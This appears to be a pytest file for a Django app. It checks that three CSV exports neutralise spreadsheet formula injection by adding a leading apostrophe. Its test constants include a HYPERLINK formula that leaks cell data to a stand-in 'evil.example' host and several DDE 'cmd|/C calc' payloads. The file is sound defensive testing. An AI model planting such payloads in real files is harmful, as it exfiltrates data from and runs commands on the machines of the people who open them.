"""Every CSV export opens in a spreadsheet as text: no cell a person typed can start a formula.

The three exports (History, `export_proposals --format csv`, `override_report --format csv`) are fed campaign
ids, usernames, notes and reasons that start with = + - @, a tab or a carriage return; each must come out with
a leading apostrophe, and figures (a negative expected value) must stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from decisions import audit, csvsafe
from decisions.reports import weekly as reports
from decisions.review import transitions as reviewing
from tests.factories import CampaignFactory, GuardrailFactory, ProposalFactory, guardrail_admin, marketer, viewer

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_NOTE = "+cmd|' /C calc'!A0"
HOSTILE_REASON = "-2+3+cmd|' /C notepad'!A1"
HOSTILE_CHANNEL = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_RATIONALE = "\t=1+1"
HOSTILE_GUARDRAIL = "\r=2+2"
# Django usernames may start with @ + - . or _: the reviewer's label is what the exports print.
HOSTILE_USERNAMES = {"marketer": "@reviewer", "admin": "-admin"}


def neutralised(value: str) -> str:
    return "'" + value


# --- the rule ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_would_start_a_formula_gets_an_apostrophe(start):
    assert csvsafe.safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "C1001", "Spend more; 20% up", "a=b", "1+1", "'quoted", "2026-11-22T06:00:00"])
def test_other_text_is_left_as_it_is(text):
    assert csvsafe.safe_cell(text) == text


@pytest.mark.parametrize("number", [-250.0, -3, 0, 1.5, Decimal("-12.50"), None, True])
def test_numbers_and_empty_values_stay_as_they_are(number):
    assert csvsafe.safe_cell(number) is number


def test_a_row_is_made_safe_cell_by_cell():
    assert csvsafe.safe_row(["=1", -1.0, "ok", "@x"]) == ["'=1", -1.0, "ok", "'@x"]


# --- the exports ---------------------------------------------------------------------------------------------


@pytest.fixture
def hostile(db):
    """A rejected and an approved-over-a-block proposal, each carrying text that would run as a formula."""
    reviewer = marketer(username=HOSTILE_USERNAMES["marketer"])
    admin = guardrail_admin(username=HOSTILE_USERNAMES["admin"])
    GuardrailFactory(name=HOSTILE_GUARDRAIL, severity="block", params={"pct": 10}, scope={"channel": HOSTILE_CHANNEL})
    rejected_one = _proposal(external_id=f"{FORMULA}-1", channel=HOSTILE_CHANNEL)
    reviewing.proposal_reject(proposal=rejected_one, actor=reviewer, reason_code="other", note=HOSTILE_NOTE)
    blocked = _proposal(
        external_id=f"{FORMULA}-2",
        channel=HOSTILE_CHANNEL,
        guardrail_verdicts=[
            {"name": HOSTILE_GUARDRAIL, "kind": "max_budget_change_pct", "severity": "block", "passed": False}
        ],
    )
    reviewing.proposal_approve(proposal=blocked, actor=admin, override_reason=HOSTILE_REASON)
    return {"rejected": rejected_one, "blocked": blocked}


def _proposal(*, external_id: str, channel: str, **kwargs):
    campaign = CampaignFactory(external_id=external_id, channel=channel)
    changes = [{"campaign": campaign.external_id, "field": "daily_budget", "from": 100.0, "to": 130.0}]
    proposal = ProposalFactory(
        campaign=campaign, changes=changes, rationale=HOSTILE_RATIONALE, expected_mean=-250.0, **kwargs
    )
    audit.record(action="proposal.created", label="engine", proposal=proposal, machine_payload={"changes": changes})
    return proposal


def parse(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(rows) -> None:
    """No text cell starts a formula (figures such as -250.0 are numbers, and stay so)."""
    for row in rows:
        for column, cell in row.items():
            assert is_number(cell) or not cell.startswith(csvsafe.FORMULA_STARTS), (column, cell)


def test_the_history_export_neutralises_ids_names_and_notes(client, hostile):
    client.force_login(viewer())
    response = client.get(reverse("decisions:history-csv"))
    rows = {int(row["proposal_id"]): row for row in parse(b"".join(response.streaming_content).decode())}
    rejected_row, blocked_row = rows[hostile["rejected"].pk], rows[hostile["blocked"].pk]
    assert rejected_row["campaign_ids"] == neutralised(hostile["rejected"].campaign.external_id)
    assert rejected_row["decided_by"] == neutralised(HOSTILE_USERNAMES["marketer"])
    assert rejected_row["note"] == neutralised(HOSTILE_NOTE)
    assert blocked_row["decided_by"] == neutralised(HOSTILE_USERNAMES["admin"])
    assert rejected_row["expected_mean"] == "-250.0"  # a figure, not text: still a number
    assert_no_formula(rows.values())


def test_export_proposals_csv_neutralises_ids_names_notes_rationales_and_guardrails(hostile):
    out = io.StringIO()
    call_command("export_proposals", "--format", "csv", stdout=out)
    rows = {int(row["id"]): row for row in parse(out.getvalue())}
    rejected_row, blocked_row = rows[hostile["rejected"].pk], rows[hostile["blocked"].pk]
    assert rejected_row["campaign_ids"] == neutralised(hostile["rejected"].campaign.external_id)
    assert rejected_row["decided_by"] == neutralised(HOSTILE_USERNAMES["marketer"])
    assert rejected_row["note"] == neutralised(HOSTILE_NOTE)
    assert rejected_row["rationale"] == neutralised(HOSTILE_RATIONALE)
    assert blocked_row["guardrails_failed"] == neutralised(HOSTILE_GUARDRAIL)
    assert blocked_row["expected_mean"] == "-250.0"
    assert_no_formula(rows.values())


def test_override_report_csv_neutralises_channels_reviewers_and_reasons(hostile):
    out = io.StringIO()
    call_command("override_report", "--week", reports.iso_week(), "--format", "csv", stdout=out)
    rows = parse(out.getvalue())
    keys = {(row["dimension"], row["key"]) for row in rows if row["section"] == "override_rate_by"}
    assert ("channel", neutralised(HOSTILE_CHANNEL)) in keys
    assert ("reviewer", neutralised(HOSTILE_USERNAMES["marketer"])) in keys
    why = [row["value"] for row in rows if row["section"] == "guardrail_overrides" and row["metric"] == "why"]
    assert why == [neutralised(HOSTILE_REASON)]
    who = [row["value"] for row in rows if row["section"] == "guardrail_overrides" and row["metric"] == "who"]
    assert who == [neutralised(HOSTILE_USERNAMES["admin"])]
    assert_no_formula(rows)


def test_override_report_csv_keeps_negative_figures_as_numbers():
    """An outcome error below zero is a figure: written as -30.0, never as text with an apostrophe."""
    report = {
        "week": "2026-W47",
        "counts": {"overrides": 2},
        "override_rate": 0.5,
        "override_rate_by": {"channel": [{"key": "-social", "rate": -0.0}]},
        "edit_ratio_by_kind": [{"kind": "budget_change", "median": -0.25, "edits": 1}],
        "time_to_decision": {"median_seconds": 60},
        "outcomes": {"overridden": {"human_minus_machine": -30.0}},
        "trend": [],
        "guardrail_overrides": [],
    }
    values = {(row["section"], row["key"], row["metric"]): row["value"] for row in parse(reports.to_csv(report))}
    assert values[("outcomes", "", "human_minus_machine")] == "-30.0"
    assert values[("edit_ratio", "budget_change", "median")] == "-0.25"
    assert values[("override_rate_by", "'-social", "rate")] == "-0.0"
